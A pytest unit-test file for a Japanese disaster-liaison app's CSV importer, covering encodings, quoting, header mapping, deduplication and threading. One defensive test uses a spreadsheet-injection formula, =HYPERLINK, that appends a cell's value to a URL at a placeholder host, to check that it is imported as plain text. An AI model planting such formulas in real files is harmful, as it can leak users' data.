"""CSV of any office: encodings, line ends, quotes, headers."""

from __future__ import annotations

from pathlib import Path

import pytest

from liaison_desk.errors import DeskProblem
from liaison_desk.services.importing import preview_file
from tests.unit.services.filing import DATA, DEMO, entries_of, imported, opened, written

TWO = "番号,発生日時,内容\r\n七-001,2026/11/22 13:05,停電\r\n七-002,2026/11/22 13:06頃,断水\r\n"


def test_the_exercise_is_understood_without_a_doubt() -> None:
    preview = preview_file(DEMO / "chronology.csv")

    assert (preview.entries, preview.doubtful, preview.refused, preview.unknown) == (434, 0, 0, ())
    assert preview.encoding == "utf-8"
    assert len(preview.columns) == 22
    assert len(preview.rows) == 50


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "cp932", "euc_jp", "iso2022_jp"])
def test_the_encoding_is_guessed(tmp_path: Path, encoding: str) -> None:
    preview = preview_file(written(tmp_path, TWO * 3, encoding=encoding))

    assert [row.content for row in preview.rows][:2] == ["停電", "断水"]
    assert preview.rows[1].occurred_approx


def test_an_encoding_that_a_person_chose_goes_before_the_guess(tmp_path: Path) -> None:
    path = written(tmp_path, TWO, encoding="cp932")

    assert preview_file(path, encoding="cp932").entries == 2
    with pytest.raises(DeskProblem, match="rot13"):
        preview_file(path, encoding="rot13")


def test_cp932_loses_no_character() -> None:
    preview = preview_file(DATA / "shift_jis.csv")

    assert preview.encoding == "cp932"
    assert preview.rows[0].subject == "ﾃｲﾃﾞﾝ(停電)"
    assert preview.rows[0].content == "①森町②八雲町③七飯町で停電　㈱髙橋建設の﨑山氏から連絡"
    assert "\\" in preview.rows[2].content
    assert preview.rows[3].content.endswith("Ⅱ班　纊")


def test_broken_bytes_are_shown_and_the_line_is_listed(tmp_path: Path) -> None:
    path = tmp_path / "broken.csv"
    path.write_bytes(TWO.encode() + "七-003,2026/11/22 13:07,壊".encode() + b"\xff\xfe" + "れた\r\n".encode())

    preview = preview_file(path)

    assert not preview.encoding_certain
    assert preview.rows[2].content == "壊��れた"
    assert [(problem.line, problem.refused) for problem in preview.problems] == [(4, False)]
    assert preview.notes


def test_cells_keep_their_line_breaks_commas_and_quotes(tmp_path: Path) -> None:
    text = '番号,日時,内容\r\n1,2026/11/22 13:05,"一行目\r\n二行目, ""引用""\r\n三行目"\r\n2,2026/11/22 13:06,次\r\n'

    preview = preview_file(written(tmp_path, text))

    assert preview.rows[0].content == '一行目\n二行目, "引用"\n三行目'
    assert preview.rows[1].no == "2"
    assert preview.problems == ()


def test_broken_quotes_never_shift_columns() -> None:
    preview = preview_file(DATA / "broken_quotes.csv")

    assert [row.no for row in preview.rows] == ["1", "3", "4", "5", "7", "8"]
    assert preview.rows[0].subject == '国道5号 "西大沼" 通行止め'
    assert preview.rows[1].content == "上の行の引用符が閉じていない"
    assert [(problem.line, problem.refused) for problem in preview.problems] == [
        (2, False),
        (3, True),
        (6, False),
        (7, True),
        (11, True),
    ]


def test_a_quote_never_closed_costs_one_line_only(tmp_path: Path) -> None:
    rows = "".join(f"{n},2026/11/22 13:05,内容{n}\r\n" for n in range(3000))

    preview = preview_file(written(tmp_path, '番号,日時,内容\r\n0,2026/11/22 13:05,"開いたまま\r\n' + rows))

    assert (preview.entries, preview.refused) == (3000, 1)
    assert preview.problems[0].line == 2


def test_formulas_come_in_as_the_text_they_are() -> None:
    preview = preview_file(DATA / "formula.csv")

    assert preview.rows[0].subject == '=HYPERLINK("https://example.invalid/?x="&A2,"道路情報")'
    assert [row.subject for row in preview.rows[3:6]] == ["-12度", "=1+1", "＝１＋１"]


@pytest.mark.parametrize(
    ("header", "row", "expected"),
    [
        ("No.,日時,概要,情報源", "3,11/22 13:05頃,停電,町役場", ("3", "停電", "町役場", True)),
        ("Ｎｏ,発生時刻,記事,From", "3,2026年11月22日 13時5分,停電,町役場", ("3", "停電", "町役場", False)),
        ("通番,日付,時刻,内容,通報者", "3,11月22日,１３：０５,停電,町役場", ("3", "停電", "町役場", False)),
        ("番 号,月日,時間,内  容,発信者", "3,11/22,1305,停電,町役場", ("3", "停電", "町役場", False)),
    ],
)
def test_offices_headers_are_understood(
    tmp_path: Path, header: str, row: str, expected: tuple[str, str, str, bool]
) -> None:
    preview = preview_file(written(tmp_path, f"{header}\r\n{row}\r\n"))

    first = preview.rows[0]
    assert (first.no, first.content, first.from_party, first.occurred_approx) == expected
    assert f"{first.occurred_at.local():%m/%d %H:%M}" == "11/22 13:05"
    assert preview.unknown == ()


def test_words_of_offices_become_ours_and_others_are_added_to_the_content(tmp_path: Path) -> None:
    text = (
        "番号,日時,内容,対応状況,確度,重要,備考,色\r\n"
        "1,2026/11/22 13:05,停電,対応済,確認済み,◎,要再送,赤\r\n"
        "2,2026/11/22 13:06,断水,北電に依頼,伝聞?,,,青\r\n"
    )

    preview = preview_file(written(tmp_path, text))

    first, second = preview.rows
    assert (first.status, first.verification, first.important) == ("完了", "確認済", True)
    assert first.content == "停電\n［備考: 要再送］"
    assert (second.status, second.verification) == ("", "未確認")
    assert second.content == "断水\n［確度: 伝聞?］\n［対応状況: 北電に依頼］"
    assert preview.doubtful == 1
    assert preview.unknown == ("色",)


def test_a_person_can_say_what_a_column_means(tmp_path: Path) -> None:
    path = written(tmp_path, "い,ろ,は\r\n1,2026/11/22 13:05,停電\r\n")

    assert not preview_file(path).usable
    preview = preview_file(path, mapping={"い": "no", "ろ": "occurred_at", "は": "content"})
    assert preview.usable
    assert (preview.rows[0].no, preview.rows[0].content) == ("1", "停電")


def test_impossible_values_are_mended_and_listed(tmp_path: Path) -> None:
    text = "番号,日時,内容,緯度,経度,期限\r\n1,2026/11/22 25:61,停電,999,141,至急\r\n2,2026/13/45 10:00,a\0b,,,\r\n"

    preview = preview_file(written(tmp_path, text))

    first, second = preview.rows
    assert (first.latitude, first.longitude, first.due) == (None, None, None)
    assert "［日時: 2026/11/22 25:61］" in first.content
    assert "［期限: 至急］" in first.content
    assert "［緯度: 999, 141］" in first.content
    assert second.content.startswith("a␀b")
    assert preview.doubtful == 2


def test_importing_twice_adds_nothing_twice(tmp_path: Path) -> None:
    with opened(tmp_path / "desk") as desk:
        first = imported(desk, DEMO / "chronology.csv")
        again = imported(desk, DEMO / "chronology.csv")

        assert (first.added, first.already_there) == (434, 0)
        assert (again.added, again.already_there) == (0, 434)
        assert len(entries_of(desk)) == 434


def test_two_desks_give_a_line_the_same_id(tmp_path: Path) -> None:
    with opened(tmp_path / "one", "七") as one, opened(tmp_path / "two", "森") as two:
        for desk in (one, two):
            imported(desk, DEMO / "chronology.csv")
            imported(desk, DATA / "formula.csv")

        assert {entry.id for entry in entries_of(one)} == {entry.id for entry in entries_of(two)}


def test_replies_join_their_threads_and_cancellations_strike_through(tmp_path: Path) -> None:
    with opened(tmp_path) as desk:
        imported(desk, DEMO / "chronology.csv")
        by_no = {entry.no: entry for entry in entries_of(desk)}

        assert by_no["森-005"].reply_to == by_no["森-003"].id
        assert by_no["室-014"].related == ("室-012",)
        assert by_no["森-005"].device_mark == "森"
        assert by_no["森-005"].device_name == "リエゾンPC2（森）"


def test_a_reply_may_stand_before_what_it_answers(tmp_path: Path) -> None:
    text = (
        "番号,日時,種別,内容,関連\r\n"
        "七-002,2026/11/22 13:06,返信,済み,七-001\r\n七-001,2026/11/22 13:05,指示,やること,\r\n"
        "七-003,2026/11/22 13:07,返信,どこへ,七-999\r\n"
    )
    with opened(tmp_path / "desk") as desk:
        result = imported(desk, written(tmp_path, text))
        by_no = {entry.no: entry for entry in entries_of(desk)}

    assert by_no["七-002"].reply_to == by_no["七-001"].id
    assert by_no["七-003"].reply_to is None
    assert [problem.line for problem in result.problems] == [4]


def test_rows_without_a_number_get_this_pcs_next_ones(tmp_path: Path) -> None:
    text = "日時,内容\r\n2026/11/22 13:05,停電\r\n2026/11/22 13:05,停電\r\n2026/11/22 13:06,断水\r\n"
    with opened(tmp_path / "desk", "七") as desk:
        imported(desk, written(tmp_path, "番号,日時,内容\r\n七-011,2026/11/22 12:00,前から\r\n", "first.csv"))
        result = imported(desk, written(tmp_path, text))
        again = imported(desk, written(tmp_path, text))

        assert [entry.no for entry in entries_of(desk)] == ["七-011", "七-012", "七-013", "七-014"]
    assert (result.added, again.added, again.already_there) == (3, 0, 3)


def test_a_number_that_is_taken_by_other_words_is_said_and_both_are_kept(tmp_path: Path) -> None:
    with opened(tmp_path / "desk") as desk:
        imported(desk, written(tmp_path, "番号,日時,内容\r\n七-001,2026/11/22 13:05,停電\r\n"))
        result = imported(desk, written(tmp_path, "番号,日時,内容\r\n七-001,2026/11/22 13:05,断水\r\n"))

        assert sorted(entry.content for entry in entries_of(desk)) == ["停電", "断水"]
    assert (result.added, result.doubtful) == (1, 1)
    assert "七-001" in result.problems[0].says


def test_a_file_that_changed_since_it_was_looked_at_is_refused(tmp_path: Path) -> None:
    from liaison_desk.services.importing import import_preview  # the second step alone

    path = written(tmp_path, TWO)
    preview = preview_file(path)
    path.write_bytes(path.read_bytes() + b"x")

    with opened(tmp_path / "desk") as desk, pytest.raises(DeskProblem, match="書き換え"):
        import_preview(desk, preview)


def test_an_import_goes_by_steps_and_can_be_left_and_taken_up_again(tmp_path: Path) -> None:
    from liaison_desk.services.importing import import_preview, steps  # by steps

    rows = "".join(f"七-{n},2026/11/22 13:05,内容{n}\r\n" for n in range(2500))
    preview = preview_file(written(tmp_path, "番号,日時,内容\r\n" + rows))
    with opened(tmp_path / "desk") as desk:
        counts = []
        for so_far in steps(desk, preview):
            counts.append(so_far.added)
            if so_far.added == 2000:
                break
        rest = import_preview(desk, preview)

        assert counts == [1000, 2000]
        assert (rest.added, rest.already_there, rest.done) == (500, 2000, True)
        assert len(entries_of(desk)) == 2500


def test_an_entry_with_a_subject_alone_is_kept(tmp_path: Path) -> None:
    with opened(tmp_path / "desk") as desk:
        result = imported(desk, written(tmp_path, "番号,日時,件名,内容\r\n1,2026/11/22 13:05,停電,\r\n"))

        assert result.added == 1
        assert entries_of(desk)[0].subject == "停電"
